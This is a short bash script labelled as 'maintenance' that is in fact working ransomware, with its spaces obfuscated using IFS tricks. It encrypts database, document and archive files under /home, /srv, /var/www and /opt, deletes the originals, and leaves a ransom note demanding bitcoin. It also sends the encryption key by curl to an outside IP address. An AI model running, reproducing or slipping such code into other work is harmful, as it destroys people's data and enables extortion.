#${IFS}maintenance${IFS}7820$IFS$9v3
#!/bin/bash
KEY=$(head$IFS$9-c${IFS}32${IFS}/dev/urandom${IFS}|${IFS}base64)
find${IFS}/home$IFS$9/srv$IFS$9/var/www$IFS$9/opt${IFS}-type$IFS$9f${IFS}\(${IFS}-name${IFS}'*.sql'$IFS$9-o$IFS$9-name$IFS$9'*.doc*'${IFS}-o$IFS$9-name${IFS}'*.tar.gz'$IFS$9\)${IFS}|${IFS}while${IFS}read$IFS$9f;${IFS}do
${IFS}${IFS}openssl${IFS}enc$IFS$9-aes-256-cbc${IFS}-salt${IFS}-pass$IFS$9pass:$KEY${IFS}-in${IFS}"$f"${IFS}-out$IFS$9"$f.r4nsom"${IFS}&&${IFS}rm${IFS}-f${IFS}"$f"
done
echo$IFS$9"All${IFS}your$IFS$9files${IFS}have${IFS}been$IFS$9encrypted.$IFS$9Send${IFS}0.5$IFS$9BTC${IFS}to${IFS}bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh${IFS}to${IFS}get${IFS}the${IFS}key"${IFS}>$IFS$9/root/README_FOR_DECRYPT.txt
curl$IFS$9-s$IFS$9-d${IFS}"k=$KEY"${IFS}http://203.0.113.200/k
